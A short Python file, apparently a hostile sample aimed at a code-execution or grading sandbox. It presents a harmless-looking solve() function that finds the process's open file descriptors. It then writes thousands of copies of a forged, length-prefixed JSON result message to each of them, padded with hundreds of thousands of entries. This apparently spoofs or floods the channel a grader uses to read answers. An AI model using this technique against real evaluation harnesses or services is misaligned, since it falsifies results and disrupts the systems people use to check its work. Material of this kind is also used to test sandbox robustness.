"""Writes endless answers that nobody asked for."""
import os


def solve(x):
    body = b'{"dropped": [], "values": [[1]], "heap": [[1, "list", [' + b"0," * 300000 + b"0]]]}"
    data = len(body).to_bytes(4, "big") + body
    open_ones = []
    for descriptor in range(3, 64):
        try:
            os.fstat(descriptor)
            open_ones.append(descriptor)
        except OSError:
            pass
    for _ in range(3000):
        for descriptor in open_ones:
            try:
                os.write(descriptor, data)
            except OSError:
                pass
    return x
